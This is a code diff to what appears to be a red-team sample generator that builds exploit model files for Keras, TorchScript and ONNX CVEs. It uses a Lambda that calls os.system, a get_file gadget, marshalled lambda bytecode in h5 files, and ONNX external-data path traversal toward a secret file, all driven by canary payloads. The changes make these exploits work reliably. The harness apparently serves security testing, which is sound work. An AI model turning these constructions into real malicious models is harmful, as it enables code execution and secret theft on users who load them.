@@ -66,12 +66,13 @@ def _fn_ref(module: str, name: str) -> dict[str, object]:
     "cve-2025-1550-keras-module",
     loader="keras",
     env="keras38",
+    gen="keras38",
     name="model.keras",
 )
 def _module_fn(out: Path, c: Canary) -> None:
     def edit(lam: dict) -> None:  # type: ignore[type-arg]
         lam["config"]["function"] = _fn_ref("os", "system")
-        lam["inbound_nodes"] = [{"args": [c.shell], "kwargs": {}}]
+        lam["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": c.shell}}]
 
     _keras_write(out, edit)
 
@@ -81,6 +82,7 @@ def _module_fn(out: Path, c: Canary) -> None:
     "cve-2025-8747-keras-gadget",
     loader="keras",
     env="keras310",
+    gen="keras310",
     name="model.keras",
 )
 def _get_file(out: Path, c: Canary) -> None:
@@ -94,7 +96,7 @@ def _get_file(out: Path, c: Canary) -> None:
             "cache_dir": str(c.path.parent),
             "cache_subdir": ".",
         }
-        lam["inbound_nodes"] = [{"args": [c.path.name], "kwargs": {}}]
+        lam["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": c.path.name}}]
 
     _keras_write(out, edit)
 
@@ -104,20 +106,18 @@ def _get_file(out: Path, c: Canary) -> None:
     "cve-2025-9905-keras-h5",
     loader="keras",
     env="keras311",
+    gen="keras311",
     name="model.h5",
 )
 def _h5(out: Path, c: Canary) -> None:
     os.environ.setdefault("KERAS_BACKEND", "torch")
     import keras
 
-    ns: dict[str, object] = {}
-    exec(
-        "def f(t):\n    import os\n    if not os.environ.get('REDTEAM_GENERATING'):\n"
-        f"        {c.py}\n    return t\n",
-        ns,
-    )
+    # a lambda (not a def) is saved as marshalled bytecode in the legacy format
+    guard = "__import__('os').environ.get('REDTEAM_GENERATING')"
+    fn = eval(f"lambda t: (None if {guard} else {c.py_expr}, t)[1]")
     inp = keras.Input(shape=(1,), name="x")
-    keras.Model(inp, keras.layers.Lambda(ns["f"], name="lam")(inp)).save(out)
+    keras.Model(inp, keras.layers.Lambda(fn, name="lam")(inp)).save(out)
 
 
 def _torchscript_module(c: Canary):  # type: ignore[no-untyped-def]
@@ -141,8 +141,9 @@ def _torchscript_module(c: Canary):  # type: ignore[no-untyped-def]
             self.training = False
             self.p = state[0]
             self.path = state[1]
-            if self.p == "armed":
-                torch.from_file(self.path, shared=True, size=8)
+            # the result is used, or TorchScript drops the call as dead code
+            if self.p == "armed" and torch.from_file(self.path, shared=True, size=8).numel() > 0:
+                self.p = "done"
 
     m = torch.jit.script(M())
     m.p = "armed"
@@ -219,12 +220,13 @@ def _secret(c: Canary) -> Path:
     "cve-2024-27318-onnx-traversal",
     loader="onnx",
     env="onnx115",
-    name="model.onnx",
+    name="model",
 )
 def _onnx_rel(out: Path, c: Canary) -> None:
     # onnx < 1.16 strips leading "../" and "/" only: a traversal after a first folder passes
-    rel = os.path.relpath(_secret(c), out.parent)
-    _onnx_external(out, "weights/../" + rel)
+    (out / "weights").mkdir(parents=True)
+    rel = os.path.relpath(_secret(c), out)
+    _onnx_external(out / "model.onnx", "weights/../" + rel)
 
 
 @sample(
@@ -232,11 +234,12 @@ def _onnx_rel(out: Path, c: Canary) -> None:
     "cve-2024-27318-onnx-traversal",
     loader="onnx",
     env="onnx115",
-    name="model.onnx",
+    name="model",
 )
 def _onnx_abs(out: Path, c: Canary) -> None:
-    up = "../" * len(out.resolve().parent.parts)
-    _onnx_external(out, "weights/" + up + str(_secret(c)).lstrip("/"))
+    (out / "weights").mkdir(parents=True)
+    up = "../" * (len(out.resolve().parts) + 1)
+    _onnx_external(out / "model.onnx", "weights/" + up + str(_secret(c)).lstrip("/"))
 
 
 @sample(
